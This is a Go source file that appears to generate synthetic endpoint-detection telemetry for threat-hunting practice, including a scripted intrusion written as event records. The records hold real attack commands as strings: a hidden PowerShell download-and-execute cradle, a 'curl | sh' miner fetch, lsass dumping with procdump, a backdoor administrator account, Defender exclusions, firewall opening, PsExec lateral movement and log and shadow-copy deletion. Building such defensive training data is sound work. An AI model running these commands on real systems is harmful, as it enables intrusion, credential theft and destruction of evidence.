package simulator

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"iter"
	"maps"
	"net/netip"
	"slices"
	"strings"
	"time"
	"unicode/utf16"
)

// tuple is a row of a table by column; a column without a value is null, or empty if it holds text.
type tuple map[string]any

// events holds the records of what happened on the machines, by the table in which hunting finds them.
type events map[string][]tuple

// table returns the rows of a table of the hunting schema, or false if there is no such table. They are made one at a time, since a
// large company has millions of some.
func (c *company) table(name string) (iter.Seq[tuple], bool) {
	if _, known := huntingSchemas()[name]; !known {
		return nil, false
	}
	one := func(row func(*machine) tuple) func(*machine) []tuple {
		return func(m *machine) []tuple { return []tuple{row(m)} }
	}
	switch name {
	case "DeviceInfo":
		return rowsOf(c.machines, one(c.deviceInfo)), true
	case "DeviceNetworkInfo":
		return rowsOf(c.machines, one(c.deviceNetworkInfo)), true
	case "DeviceTvmSoftwareInventory":
		return rowsOf(c.machines, softwareRows), true
	case "DeviceTvmSoftwareVulnerabilities":
		return rowsOf(c.machines, vulnerabilityRows), true
	case "DeviceTvmSoftwareVulnerabilitiesKB":
		return slices.Values(c.knownVulnerabilities()), true
	case "DeviceTvmSecureConfigurationAssessment":
		return rowsOf(c.machines, c.settingRows), true
	case "DeviceTvmSecureConfigurationAssessmentKB":
		return slices.Values(knownSettings()), true
	case "DeviceTvmInfoGathering":
		return rowsOf(c.machines, one(c.gathered)), true
	case "DeviceTvmInfoGatheringKB":
		return slices.Values(knownGathering()), true
	case "AlertInfo":
		return slices.Values(each(c.alerts, alertRow)), true
	case "AlertEvidence":
		return rowsOf(c.alerts, evidenceRows), true
	}
	return slices.Values(c.happened()[name]), true
}

// rowsOf returns the rows of each item, one after the other.
func rowsOf[T any](items []T, rows func(T) []tuple) iter.Seq[tuple] {
	return func(yield func(tuple) bool) {
		for _, item := range items {
			for _, row := range rows(item) {
				if !yield(row) {
					return
				}
			}
		}
	}
}

func (c *company) deviceInfo(m *machine) tuple {
	kind := "Workstation"
	if strings.HasPrefix(m.OSPlatform, "WindowsServer") || m.OSPlatform == ubuntu.platform && m.owner == nil {
		kind = "Server"
	}
	t := tuple{
		"Timestamp": m.LastSeen.Time, "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "ClientVersion": string(m.AgentVersion),
		"PublicIP": string(m.LastExternalIPAddress), "OSArchitecture": m.OSArchitecture, "OSPlatform": m.OSPlatform,
		"IsAzureADJoined": m.IsAADJoined, "AadDeviceId": string(m.AADDeviceID), "OSVersion": m.Version,
		"MachineGroup": string(m.RBACGroupName), "ReportId": int64(638_000_000_000_000_001), "OnboardingStatus": m.OnboardingStatus,
		"DeviceCategory": "Endpoint", "DeviceType": kind, "SensorHealthState": m.HealthStatus, "ExposureLevel": m.ExposureLevel,
		"AssetValue": m.DeviceValue, "DeviceManualTags": jsonText(m.MachineTags),
		"IsInternetFacing": slices.Contains(m.MachineTags, "Internet facing"), "IsExcluded": m.IsExcluded,
	}
	if m.OSBuild != nil {
		t["OSBuild"] = *m.OSBuild
	}
	users := []record{}
	if m.owner != nil {
		users = append(users, record{{"UserName", m.owner.AccountName}, {"DomainName", m.owner.AccountDomain}, {"Sid", m.owner.AccountSID}})
	}
	t["LoggedOnUsers"] = jsonText(users)
	return t
}

// jsonText writes what a column of text holds as JSON.
func jsonText(v any) string { return string(must(json.Marshal(v))) }

func (c *company) deviceNetworkInfo(m *machine) tuple {
	return tuple{
		"Timestamp": m.LastSeen.Time, "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "NetworkAdapterName": "Ethernet",
		"MacAddress": string(m.IPAddresses[0].MACAddress), "NetworkAdapterType": "Ethernet", "NetworkAdapterStatus": "Up",
		"IPAddresses": jsonText(each(m.IPAddresses, func(a ipAddress) record { return record{{"IPAddress", a.IPAddress}} })),
		"ReportId":    int64(638_000_000_000_000_002),
	}
}

func softwareRows(m *machine) []tuple {
	return each(m.installed, func(i installation) tuple {
		return tuple{
			"DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "OSPlatform": m.OSPlatform, "OSVersion": m.Version,
			"OSArchitecture": m.OSArchitecture, "SoftwareVendor": i.product.vendor, "SoftwareName": i.product.name,
			"SoftwareVersion": i.product.versions[i.version],
		}
	})
}

func vulnerabilityRows(m *machine) []tuple {
	return each(vulnerabilitiesOf(m), func(v machineVulnerability) tuple {
		return tuple{
			"DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "OSPlatform": m.OSPlatform, "OSVersion": m.Version,
			"OSArchitecture": m.OSArchitecture, "SoftwareVendor": v.ProductVendor, "SoftwareName": v.ProductName,
			"SoftwareVersion": v.ProductVersion, "CveId": v.CVEID, "VulnerabilitySeverityLevel": v.Severity,
			"RecommendedSecurityUpdateId": string(v.FixingKBID),
		}
	})
}

func alertRow(a *alert) tuple {
	return tuple{
		"Timestamp": a.AlertCreationTime.Time, "AlertId": a.ID, "Title": a.Title, "Category": a.Category, "Severity": a.Severity,
		"ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": a.DetectionSource,
		"AttackTechniques": jsonText(a.MITRETechniques),
	}
}

// evidenceRows are the evidence of an alert and, as in the service, its machine, which the API does not list as evidence.
func evidenceRows(a *alert) []tuple {
	entities := append(slices.Clone(a.Evidence), evidence{EntityType: "Machine"})
	return each(entities, func(e evidence) tuple {
		role := "Related"
		if e.EntityType == "Machine" {
			role = "Impacted"
		}
		return tuple{
			"Timestamp": a.AlertCreationTime.Time, "AlertId": a.ID, "Title": a.Title, "Severity": a.Severity,
			"Categories": jsonText([]string{a.Category}), "AttackTechniques": jsonText(a.MITRETechniques),
			"ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": a.DetectionSource,
			"EntityType": e.EntityType, "EvidenceRole": role, "FileName": string(e.FileName), "FolderPath": string(e.FilePath),
			"SHA1": string(e.SHA1), "SHA256": string(e.SHA256), "ThreatFamily": string(a.ThreatFamilyName),
			"RemoteIP": string(e.IPAddress), "RemoteUrl": string(e.URL), "AccountName": string(e.AccountName),
			"AccountDomain": string(e.DomainName), "AccountSid": string(e.UserSID), "AccountObjectId": string(e.AADUserID),
			"AccountUpn": string(e.UserPrincipalName), "DeviceId": a.MachineID, "DeviceName": a.ComputerDNSName,
			"ProcessCommandLine": string(e.ProcessCommandLine), "RegistryKey": string(e.RegistryKey),
			"RegistryValueData": string(e.RegistryValue),
		}
	})
}

// happened are the events, made when they are first asked for.
func (c *company) happened() events {
	if c.events == nil {
		h := &history{company: c, draws: newSource(c.seed, "events"), events: events{}, reports: map[string]int64{}, columns: map[string]map[string]bool{}}
		h.everyday()
		h.detected()
		h.intrusion()
		h.office()
		h.guessed()
		c.events = h.events
	}
	return c.events
}

// history makes up what happened on the machines.
type history struct {
	company *company
	draws   source
	events  events
	reports map[string]int64           // the last report id, by machine
	columns map[string]map[string]bool // by table, for append
}

// process is a process that something is done by.
type process struct {
	file    *file
	command string
	id      int64
	created time.Time
	user    *user
	rights  string // integrity level
	parent  *process
}

// record adds an event, of no action in a table that has none. DeviceEvents does not know the rights of who acted.
func (h *history) record(table string, m *machine, when time.Time, action string, by *process, details tuple) {
	h.reports[m.ID] += 1 + h.draws.Int64N(7)
	t := tuple{
		"Timestamp": when.UTC().Truncate(tick), "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "ReportId": h.reports[m.ID],
	}
	if by != nil {
		maps.Copy(t, by.asActor())
	}
	if action != "" {
		t["ActionType"] = action
	}
	if table == "DeviceEvents" {
		delete(t, "InitiatingProcessIntegrityLevel")
	}
	maps.Copy(t, details)
	h.events[table] = append(h.events[table], t)
}

// asActor are the columns of the process that did something.
func (p *process) asActor() tuple {
	t := tuple{
		"InitiatingProcessFileName": p.file.name, "InitiatingProcessFolderPath": p.file.folder,
		"InitiatingProcessSHA1": p.file.SHA1, "InitiatingProcessSHA256": p.file.SHA256, "InitiatingProcessMD5": p.file.MD5,
		"InitiatingProcessFileSize": p.file.Size, "InitiatingProcessVersionInfoCompanyName": string(p.file.FilePublisher),
		"InitiatingProcessVersionInfoProductName": string(p.file.FileProductName),
		"InitiatingProcessId":                     p.id, "InitiatingProcessCommandLine": p.command, "InitiatingProcessCreationTime": p.created,
		"InitiatingProcessAccountDomain": p.user.AccountDomain, "InitiatingProcessAccountName": p.user.AccountName,
		"InitiatingProcessAccountSid": p.user.AccountSID, "InitiatingProcessAccountUpn": p.user.principalName,
		"InitiatingProcessAccountObjectId": p.user.objectID, "InitiatingProcessIntegrityLevel": p.rights,
		"InitiatingProcessUniqueId": fmt.Sprint(p.uniqueID()),
	}
	if p.parent != nil {
		t["InitiatingProcessParentId"], t["InitiatingProcessParentFileName"] = p.parent.id, p.parent.file.name
		t["InitiatingProcessParentCreationTime"] = p.parent.created
	}
	return t
}

// uniqueID returns the ID that still names the process after its process ID is used again.
func (p *process) uniqueID() int64 { return 1<<54 + p.id }

// asFile are the columns of the file that something was done with.
func (f *file) asFile() tuple {
	return tuple{
		"FileName": f.name, "FolderPath": f.folder, "SHA1": f.SHA1, "SHA256": f.SHA256, "MD5": f.MD5, "FileSize": f.Size,
	}
}

// asCreated are the columns of a process that was created.
func (p *process) asCreated() tuple {
	t := p.file.asFile()
	maps.Copy(t, tuple{
		"ProcessId": p.id, "ProcessCommandLine": p.command, "ProcessCreationTime": p.created, "ProcessIntegrityLevel": p.rights,
		"ProcessTokenElevation":         "TokenElevationTypeDefault",
		"ProcessVersionInfoCompanyName": string(p.file.FilePublisher), "ProcessVersionInfoProductName": string(p.file.FileProductName),
		"ProcessVersionInfoOriginalFileName": p.file.name, "ProcessUniqueId": fmt.Sprint(p.uniqueID()),
		"AccountDomain": p.user.AccountDomain, "AccountName": p.user.AccountName, "AccountSid": p.user.AccountSID,
		"AccountUpn": p.user.principalName, "AccountObjectId": p.user.objectID, "LogonId": int64(1<<53 + 1),
	})
	return t
}

// start has a process start another one.
func (h *history) start(m *machine, when time.Time, name, command, rights string, by *process, who *user) *process {
	p := &process{
		file: h.company.fileNamed(name), command: command, id: 1000 + h.draws.Int64N(30000),
		created: when.UTC().Truncate(tick), user: who, rights: rights, parent: by,
	}
	h.record("DeviceProcessEvents", m, when, "ProcessCreated", by, p.asCreated())
	return p
}

// shell is the process that a user's work starts from, which started long before.
func (h *history) shell(m *machine, when time.Time, who *user) *process {
	name := "explorer.exe"
	if !m.isWindows() {
		name = m.client("")
	}
	root := h.company.fileNamed(m.parentShell())
	start := when.Add(-time.Hour - h.draws.span(5*time.Hour)).UTC().Truncate(tick)
	return &process{
		file: h.company.fileNamed(name), command: name, id: 4000 + h.draws.Int64N(900), created: start, user: who, rights: "Medium",
		parent: &process{file: root, command: root.name, id: 700, created: start.Add(-time.Minute), user: who, rights: "System"},
	}
}

// parentShell is the file of the process that starts the shell of the user.
func (m *machine) parentShell() string {
	switch m.OSPlatform {
	case ubuntu.platform:
		return "sshd"
	case macOS.platform:
		return "zsh"
	}
	return "svchost.exe"
}

// everyday records what people and systems do all the time: programs are started, connections made, names looked up,
// files written, users logged on, and signatures checked.
func (h *history) everyday() {
	c := h.company
	for _, n := range c.connections {
		who := c.userOf(n.machine)
		program := h.start(n.machine, n.time.Add(-time.Second), n.process, n.process, "Medium", h.shell(n.machine, n.time, who), who)
		h.connected(n.machine, n.time, program, n.ip, n.port, n.host)
		if n.host != "" && n.machine.isWindows() {
			h.record("DeviceEvents", n.machine, n.time.Add(-time.Millisecond), "DnsQueryResponse", program, tuple{
				"AdditionalFields": jsonText(record{{"DnsQueryString", n.host}, {"DnsQueryType", 1}, {"DnsQueryResult", jsonText([]record{{{"Result", n.ip}}})}}),
			})
		}
	}
	for _, l := range c.logons {
		for i := range 3 {
			when := l.last.Add(-time.Duration(i) * (day + h.draws.span(5*day)))
			kind, _, _ := strings.Cut(l.kinds, ",")
			details := tuple{
				"LogonType": kind, "AccountDomain": l.user.AccountDomain, "AccountName": l.user.AccountName,
				"AccountSid": l.user.AccountSID, "IsLocalAdmin": l.user.IsDomainAdmin, "LogonId": int64(1)<<53 + int64(1+i), "Protocol": "Kerberos",
			}
			if kind != "Interactive" {
				details["RemoteIP"], details["RemoteIPType"], details["RemoteDeviceName"] = "10.20.1.19", "Private", "ops-nb-01"
			}
			h.record("DeviceLogonEvents", l.machine, when, "LogonSuccess", nil, details)
		}
	}
	for _, s := range c.sightings {
		if s.file.DeterminationType == "Clean" && !h.draws.chance(20) {
			continue
		}
		h.record("DeviceFileCertificateInfo", s.machine, s.last, "", nil, tuple{
			"SHA1": s.file.SHA1, "IsSigned": s.file.Signer != "", "IsTrusted": s.file.Signer != "" && s.file.DeterminationType == "Clean",
			"Signer": string(s.file.Signer), "SignerHash": string(s.file.SignerHash), "Issuer": string(s.file.Issuer),
			"IsRootSignerMicrosoft": s.file.Signer == optional(microsoft.name),
		})
	}
}

// connected adds a connection.
func (h *history) connected(m *machine, when time.Time, by *process, ip string, port int, host string) {
	kind := "Public"
	if address, err := netip.ParseAddr(ip); err == nil && address.IsPrivate() {
		kind = "Private"
	}
	h.record("DeviceNetworkEvents", m, when, "ConnectionSuccess", by, tuple{
		"RemoteIP": ip, "RemotePort": int64(port), "RemoteUrl": host, "LocalIP": m.LastIPAddress,
		"LocalPort": 49152 + h.draws.Int64N(16000), "Protocol": "Tcp", "LocalIPType": "Private", "RemoteIPType": kind,
	})
}

// detected leaves the traces of the alerts: the evidence, as events.
func (h *history) detected() {
	c := h.company
	for _, a := range slices.Backward(c.alerts) {
		m, failure := c.machineNamed(a.MachineID)
		if failure != nil {
			continue
		}
		who, when := c.userOf(m), a.FirstEventTime.Time
		by := h.shell(m, when, who)
		for _, e := range a.Evidence {
			switch e.EntityType {
			case "Process":
				parent := h.start(m, when.Add(-time.Second), string(e.ParentProcessFileName), string(e.ParentProcessFileName), "Medium", by, who)
				by = h.start(m, when, string(e.FileName), string(e.ProcessCommandLine), "High", parent, who)
			case "File":
				details := c.fileNamed(string(e.FileName)).asFile()
				details["FileOriginUrl"], details["FileOriginIP"] = "https://"+payloadHost+"/"+string(e.FileName), payloadIP
				h.record("DeviceFileEvents", m, when, "FileCreated", by, details)
			case "Registry":
				h.registryChanged(m, when, by, string(e.RegistryKey), "UpdateHelper", string(e.RegistryValue), "")
			}
		}
	}
}

// guessed leaves the sign-ins of the alerts about passwords that were guessed: many that failed, and then one that did not.
func (h *history) guessed() {
	const guesses, passwordGuessing = 12, "T1110.001" // https://attack.mitre.org/techniques/T1110/001/
	for _, a := range slices.Backward(h.company.alerts) {
		m, failure := h.company.machineNamed(a.MachineID)
		from := slices.IndexFunc(a.Evidence, func(e evidence) bool { return e.EntityType == "Ip" })
		if failure != nil || from < 0 || !slices.Contains(a.MITRETechniques, passwordGuessing) {
			continue
		}
		who := h.company.userOf(m)
		for i := range guesses + 1 {
			details := tuple{
				"LogonType": "Network", "AccountDomain": who.AccountDomain, "AccountName": who.AccountName, "AccountSid": who.AccountSID,
				"RemoteIP": string(a.Evidence[from].IPAddress), "RemoteIPType": "Public", "Protocol": "SSH",
			}
			action := "LogonSuccess"
			if i < guesses {
				action, details["FailureReason"] = "LogonFailed", "InvalidUserNameOrPassword"
			}
			h.record("DeviceLogonEvents", m, a.FirstEventTime.Add(-time.Duration(guesses-i)*4*time.Second), action, nil, details)
		}
	}
}

// registryChanged adds a change of a registry value.
func (h *history) registryChanged(m *machine, when time.Time, by *process, key, name, data, before string) {
	h.record("DeviceRegistryEvents", m, when, "RegistryValueSet", by, tuple{
		"RegistryKey": key, "RegistryValueName": name, "RegistryValueData": data, "RegistryValueType": "String",
		"PreviousRegistryKey": key, "PreviousRegistryValueName": name, "PreviousRegistryValueData": before,
	})
}

// encodedCommand is a command as PowerShell takes it with -EncodedCommand: UTF-16 in base64.
func encodedCommand(text string) string {
	var raw []byte
	for _, unit := range utf16.Encode([]rune(text)) {
		raw = append(raw, byte(unit), byte(unit>>8))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// intrusion is one attack from end to end, four days ago, from a laptop of the finance department to a domain
// controller, so that every kind of hunt has something to find.
func (h *history) intrusion() {
	c := h.company
	laptop, controller, web := c.machines[0], c.hostNamed("dc-01"), c.hostNamed("web-01")
	who := c.userOf(laptop)
	begin := c.started.Add(-4 * day).Truncate(time.Hour)
	step := 0
	next := func() time.Time {
		step++
		return begin.Add(time.Duration(step)*95*time.Second + h.draws.span(20*time.Second))
	}
	word := h.start(laptop, next(), "winword.exe", `winword.exe "C:\Users\Public\Downloads\invoice_8841.docm"`, "Medium", h.shell(laptop, begin, who), who)
	command := "$c = New-Object Net.WebClient; iex $c.DownloadString('https://" + payloadHost + "/s')"
	shell := h.start(laptop, next(), "powershell.exe", "powershell.exe -NoP -W Hidden -EncodedCommand "+encodedCommand(command), "Medium", word, who)
	h.connected(laptop, next(), shell, payloadIP, 443, payloadHost)
	dropped := c.fileNamed("updater_helper.exe").asFile()
	dropped["FileOriginUrl"], dropped["FileOriginIP"] = "https://"+payloadHost+"/h.exe", payloadIP
	h.record("DeviceFileEvents", laptop, next(), "FileCreated", shell, dropped)
	elevator := h.start(laptop, next(), "fodhelper.exe", "fodhelper.exe", "High", shell, who)
	elevated := h.start(laptop, next(), "cmd.exe", "cmd.exe /k", "High", elevator, who)
	h.persist(laptop, elevated, who, next)
	h.tamper(laptop, elevated, who, next)
	h.steal(laptop, elevated, who, next)
	h.beacon(laptop, elevated, who, next())
	h.spreadOut(laptop, controller, elevated, who, next)
	h.coverUp(laptop, elevated, who, next)

	miner := h.start(web, next(), "bash", "bash -c 'curl -s http://"+miningHost+"/i | sh'", "", h.shell(web, begin, c.userOf(web)), c.userOf(web))
	h.record("DeviceFileEvents", web, next(), "FileCreated", miner, tuple{"FileName": "update.timer", "FolderPath": "/etc/systemd/system"})
	h.record("DeviceFileEvents", web, next(), "FileModified", miner, tuple{"FileName": "hosts", "FolderPath": "/etc", "FileSize": int64(312)})
	h.record("DeviceFileEvents", web, next(), "FileModified", miner, tuple{"FileName": "ls", "FolderPath": "/usr/bin", "FileSize": int64(142144)})
}

// hostNamed finds a machine by the first part of its name.
func (c *company) hostNamed(host string) *machine {
	m, failure := c.machineNamed(host + "." + domain)
	if failure != nil {
		panic("simulator: the data names a machine that is not in the inventory: " + host)
	}
	return m
}

func (h *history) persist(m *machine, by *process, who *user, next func() time.Time) {
	const implant = `C:\ProgramData\UpdateHelper\updater_helper.exe`
	h.start(m, next(), "schtasks.exe", `schtasks /create /sc minute /mo 15 /tn "Update Helper" /tr `+implant, "High", by, who)
	h.record("DeviceEvents", m, next(), "ScheduledTaskCreated", by, tuple{"AdditionalFields": jsonText(record{{"TaskName", `\Update Helper`}})})
	h.registryChanged(m, next(), by, `HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "UpdateHelper", implant, "")
	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\UpdHlp`, "ImagePath", implant+" /svc", "")
	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Spooler`, "ImagePath", implant, `C:\Windows\System32\spoolsv.exe`)
	h.start(m, next(), "sc.exe", "sc create UpdHlp binPath= "+implant+" start= auto", "High", by, who)
	h.record("DeviceEvents", m, next(), "ServiceInstalled", by, tuple{
		"FileName": "updater_helper.exe", "FolderPath": `C:\ProgramData\UpdateHelper`, "ProcessCommandLine": implant + " /svc",
		"AdditionalFields": jsonText(record{{"ServiceName", "UpdHlp"}, {"ServiceAccount", "LocalSystem"}}),
	})
	h.start(m, next(), "net1.exe", "net1 user helpdesk2 P@ss /add", "High", by, who)
	created := tuple{"AccountDomain": strings.SplitN(m.ComputerDNSName, ".", 2)[0], "AccountName": "helpdesk2", "AccountSid": "S-1-5-21-2000478354-1708537768-1957994488-1009"}
	h.record("DeviceEvents", m, next(), "UserAccountCreated", by, created)
	added := maps.Clone(created)
	added["AdditionalFields"] = jsonText(record{{"GroupName", "Administrators"}, {"GroupDomainName", "Builtin"}, {"GroupSid", "S-1-5-32-544"}})
	h.record("DeviceEvents", m, next(), "UserAccountAddedToLocalGroup", by, added)
	h.start(m, next(), "net1.exe", "net1 localgroup Administrators helpdesk2 /add", "High", by, who)
	h.record("DeviceEvents", m, next(), "SecurityGroupCreated", by, tuple{
		"AdditionalFields": jsonText(record{{"GroupName", "Helpers"}, {"GroupDomainName", accountDomain}, {"GroupSid", "S-1-5-21-2000478354-1708537768-1957994488-1010"}}),
	})
	h.record("DeviceFileEvents", m, next(), "FileCreated", by, tuple{
		"FileName": "helper.lnk", "FolderPath": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup`, "FileSize": int64(1432),
	})
	h.record("DeviceFileEvents", m, next(), "FileModified", by, tuple{"FileName": "version.dll", "FolderPath": `C:\Program Files\PuTTY`, "FileSize": int64(90112)})
	h.record("DeviceFileEvents", m, next(), "FileModified", by, tuple{"FileName": "hosts", "FolderPath": `C:\Windows\System32\drivers\etc`, "FileSize": int64(1044)})
}

func (h *history) tamper(m *machine, by *process, who *user, next func() time.Time) {
	h.start(m, next(), "powershell.exe", `powershell.exe Add-MpPreference -ExclusionPath C:\ProgramData`, "High", by, who)
	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`, `C:\ProgramData`, "0", "")
	h.record("DeviceEvents", m, next(), "TamperingAttempt", by, tuple{
		"RegistryKey": `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "RegistryValueName": "DisableAntiSpyware", "RegistryValueData": "1",
	})
	h.start(m, next(), "netsh.exe", `netsh advfirewall firewall add rule name="Updates" dir=in action=allow protocol=TCP localport=4444`, "High", by, who)
	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules`, "{2F1C}", "v2.31|Action=Allow|Dir=In|LPort=4444", "")
}

func (h *history) steal(m *machine, by *process, who *user, next func() time.Time) {
	dumper := h.start(m, next(), "procdump64.exe", `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp`, "High", by, who)
	opened := h.company.fileNamed("lsass.exe").asFile()
	opened["AdditionalFields"] = jsonText(record{{"DesiredAccess", 2097151}})
	h.record("DeviceEvents", m, next(), "OpenProcessApiCall", dumper, opened)
	h.record("DeviceFileEvents", m, next(), "FileCreated", dumper, tuple{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
	h.record("DeviceImageLoadEvents", m, next(), "ImageLoaded", dumper, h.company.fileNamed("mimi.dll").asFile())
	h.record("DeviceFileEvents", m, next(), "FileCreated", by, tuple{"FileName": "finance-2026.7z", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(9_007_199_254_740_993)})
	h.record("DeviceEvents", m, next(), "SensitiveFileRead", by, tuple{"FileName": "salaries.xlsx", "FolderPath": `\\fs-01\finance`})
	h.record("DeviceEvents", m, next(), "ScreenshotTaken", by, tuple{})
}

// beacon calls home every five minutes, a few seconds early or late.
func (h *history) beacon(m *machine, by *process, who *user, start time.Time) {
	implant := h.start(m, start, "updater_helper.exe", `"C:\ProgramData\UpdateHelper\updater_helper.exe" /svc`, "System", by, who)
	for i := range 40 {
		h.connected(m, start.Add(time.Duration(i)*5*time.Minute+h.draws.span(8*time.Second)), implant, controlIP, 443, controlHost)
	}
}

func (h *history) spreadOut(m, target *machine, by *process, who *user, next func() time.Time) {
	c := h.company
	for _, n := range c.machines[20:28] {
		h.connected(m, next(), by, n.LastIPAddress, 445, "")
	}
	h.start(m, next(), "PsExec64.exe", `PsExec64.exe \\dc-01 -s cmd.exe`, "High", by, who)
	desktop := h.start(m, next(), "mstsc.exe", "mstsc.exe /v:dc-01", "Medium", by, who)
	h.connected(m, next(), desktop, target.LastIPAddress, 3389, target.ComputerDNSName)
	admin := c.userNamed("adm-eriksen")
	h.record("DeviceLogonEvents", target, next(), "LogonSuccess", nil, tuple{
		"LogonType": "RemoteInteractive", "AccountDomain": admin.AccountDomain, "AccountName": admin.AccountName, "AccountSid": admin.AccountSID,
		"IsLocalAdmin": true, "LogonId": int64(1<<53 + 3), "Protocol": "NTLM", "RemoteIP": m.LastIPAddress, "RemoteIPType": "Private",
		"RemoteDeviceName": m.ComputerDNSName,
	})
	remote := h.start(target, next(), "cmd.exe", "cmd.exe /k", "System", h.shell(target, next(), admin), admin)
	h.start(target, next(), "reg.exe", `reg save hklm\sam C:\Windows\Temp\s.hiv`, "System", remote, admin)
}

func (h *history) coverUp(m *machine, by *process, who *user, next func() time.Time) {
	h.start(m, next(), "wevtutil.exe", "wevtutil.exe cl Security", "High", by, who)
	h.record("DeviceEvents", m, next(), "SecurityLogCleared", by, tuple{"AccountDomain": who.AccountDomain, "AccountName": who.AccountName, "AccountSid": who.AccountSID})
	h.record("DeviceFileEvents", m, next(), "FileDeleted", by, tuple{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
	h.start(m, next(), "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "High", by, who)
}
